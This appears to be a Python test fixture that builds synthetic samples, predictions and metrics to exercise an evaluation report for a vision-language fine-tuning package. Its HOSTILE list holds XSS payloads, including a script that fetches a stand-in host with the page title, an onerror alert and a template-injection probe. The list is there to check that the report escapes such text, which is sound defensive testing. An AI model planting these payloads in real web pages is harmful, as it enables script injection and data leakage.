"""An evaluation to make a report of: all three tasks, hostile texts, real photos where they are there."""

import hashlib
import json
import random
from pathlib import Path
from typing import Any

from PIL import Image

from qwenft.core.boxes import Box, clip
from qwenft.core.predictions import Detected, Prediction, Question
from qwenft.core.runs import Threshold
from qwenft.core.samples import Sample, SceneObject
from qwenft.evaluate.compare import compare_predictions
from qwenft.evaluate.report import Evaluation
from qwenft.evaluate.score import score_predictions
from qwenft.evaluate.threshold import threshold_figures

PHOTOS = Path(__file__).parents[2] / "shared" / "data" / "coco36"
HOSTILE = [
    "</script><script>fetch('https://example.org/'+document.title)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!--<script>",
    "{{ 7 * 7 }}",
    "a\u2028b\u0000c\x1b[31m",
    "很抱歉，图中没有狗。",
    "lone \ud800 surrogate",
    "w" * 400,
]
"""Texts of data and model that a page must show as they are."""


def pictures(folder: Path, count: int) -> list[tuple[str, int, int]]:
    """Pictures under folder/images, as samples name them, with their sizes."""
    photos = sorted(PHOTOS.rglob("*.jpg"))[:count] if PHOTOS.is_dir() else []
    found = []
    for number in range(count):
        if number < len(photos):
            content = photos[number].read_bytes()
        else:
            path = folder / "drawn.jpg"
            Image.effect_noise((320 + 8 * number, 240), 40 + number).convert("RGB").save(path)
            content = path.read_bytes()
        name = hashlib.sha256(content).hexdigest()
        target = folder / "images" / name[:2] / f"{name}.jpg"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
        found.append((f"images/{name[:2]}/{name}.jpg", *Image.open(target).size))
    return found


def samples(folder: Path, count: int, num_pictures: int) -> list[Sample]:
    """`count` samples: grounding, one in eight absent (of three kinds), some of several things; each tenth a detection,
    each tenth a caption.
    """
    rng = random.Random(0)
    made = []
    stored = pictures(folder, num_pictures)
    for number in range(count):
        image, width, height = stored[number % len(stored)]
        query = (
            HOSTILE[number] if number < len(HOSTILE) else f"the {rng.choice(('red', 'small', 'left'))} thing {number}"
        )
        name = f"made/val/{number}"
        box: Box = (width * 0.2, height * 0.25, width * rng.uniform(0.3, 0.8), height * rng.uniform(0.4, 0.9))
        if number % 10 == 8:
            things = (SceneObject(box, "dog"), SceneObject((0.0, 0.0, 40.0, 60.0), "<b>cup</b>"))
            made.append(Sample(name, "detection", image, width, height, None, things, ("dog", "<b>cup</b>")))
        elif number % 10 == 9:
            made.append(Sample(name, "caption", image, width, height, captions=(f"a {query}", "two dogs on grass")))
        else:
            objects = () if number % 8 == 7 else (SceneObject(box, rng.choice(("dog", query))),)
            if number % 10 == 3 and objects:
                objects += (SceneObject((0.0, 0.0, width * 0.15, height * 0.2), objects[0].label),)
            kind = None if objects else (None, "absent_category", "wrong_position")[number // 8 % 3]
            made.append(Sample(name, "grounding", image, width, height, query, objects, negative=kind))
    return made


def answered(sample: Sample, rng: random.Random, spread: float) -> Prediction:
    """A guess of the truth; the farther off, the lower its score."""
    question = Question.of(sample, Path())
    if rng.random() < 0.08:
        return Prediction(question, "unparsable", (), rng.choice(HOSTILE), "Locate it", how="no box in it")
    if sample.task == "caption":
        return Prediction(question, "ok", (), rng.choice(sample.captions), "Describe it")
    found = []
    for item in sample.objects:
        shift = rng.gauss(0, spread)
        x1, y1, x2, y2 = item.bbox
        moved = clip((x1 + shift, y1 + shift, max(x2 + shift, x1 + shift + 1), y2 + shift), sample.image_wh)
        found.append(Detected(moved, item.label, round(max(0.01, 0.99 - abs(shift) / 100), 4)))
    if sample.task == "grounding" and not sample.objects and rng.random() < spread / 100:  # a false alarm, not so sure
        found.append(Detected((1.0, 1.0, 50.0, 50.0), sample.query or "", round(rng.uniform(0.2, 0.9), 4)))
    text = json.dumps([{"bbox_2d": [round(v) for v in item.box_xyxy], "label": item.label} for item in found])
    return Prediction(question, "ok" if found else "empty", tuple(found), text, "Locate it")


def metrics_of(asked: list[Sample], ours: list[Prediction], theirs: list[Prediction] | None) -> dict[str, Any]:
    """What metrics.json would hold."""
    return {
        "when": "2026-11-25 10:00",
        "data": HOSTILE[1],
        "data_path": "data/made",
        "split": "val",
        "role": "held-out",
        "samples": {"scored": len(asked), "of": len(asked) + 1},
        "pictures": len({sample.picture for sample in asked}),
        "trained_on": {"pictures": 1, "of": 4, "samples": 2},
        "run": "first",
        "model": "tiny",
        "adapter": "runs/first/adapter",
        "asked": {"min_pixels": 3136, "max_pixels": 12544, "prompts": {"grounding": "Locate {expression}: <b>"}},
        "scores": score_predictions(asked, ours),
        "baseline": None if theirs is None else score_predictions(asked, theirs),
        "difference": None if theirs is None else compare_predictions(asked, ours, theirs),
        "constant_box": {"box_norm": [0.1, 0.1, 0.6, 0.6], "positives": {"Acc@0.5": 0.1, "Acc@0.75": 0.0,
                         "mean_iou": 0.2, "F1@0.5": 0.1, "discrimination": 0.1}},
        "threshold": threshold_figures(asked, ours, {"grounding": Threshold(0.8, "made", "train", 99)}),
        "versions": {"qwenft": "0"},
        "inputs": {},
    }  # fmt: skip


def evaluation(folder: Path, count: int = 60, num_pictures: int = 8, *, baseline: bool = True) -> Evaluation:
    """Samples, answers of an adapter and of a base model, and all that a report shows."""
    rng = random.Random(1)
    asked = samples(folder, count, num_pictures)
    ours = [answered(sample, rng, 20) for sample in asked]
    theirs = [answered(sample, rng, 60) for sample in asked] if baseline else None
    steps = [{"event": "step", "step": n, "loss": 2 / n} for n in range(1, 30)]
    evals = [{"event": "eval", "step": n, "metric": "Acc@0.5", "value": n / 40} for n in (0, 15, 30)]
    contract = {"base": "tiny", "pictures": [asked[0].picture], "data": HOSTILE[0]}
    return Evaluation(
        metrics_of(asked, ours, theirs), asked, ours, theirs, folder, "qwenft eval", contract, steps + evals
    )
